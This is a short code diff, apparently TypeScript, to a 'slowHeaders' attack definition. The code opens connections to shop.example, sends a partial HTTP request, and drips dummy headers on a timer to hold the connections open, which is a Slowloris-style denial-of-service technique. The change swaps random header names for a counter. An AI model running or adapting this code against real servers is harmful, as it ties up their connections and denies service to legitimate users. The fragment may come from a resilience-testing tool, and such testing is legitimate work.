@@ -14,7 +14,11 @@ export const slowHeaders: Attack = {
       addresses: 4,
       begin: (socket) => {
         socket.write('GET / HTTP/1.1\r\nHost: shop.example\r\n');
-        const drip = setInterval(() => socket.write(`X-Drip-${Math.random()}: 1\r\n`), EVERY_MS);
+        let headers = 0;
+        const drip = setInterval(() => {
+          headers += 1;
+          socket.write(`X-Drip-${headers}: 1\r\n`);
+        }, EVERY_MS);
         socket.once('close', () => clearInterval(drip));
       },
     });
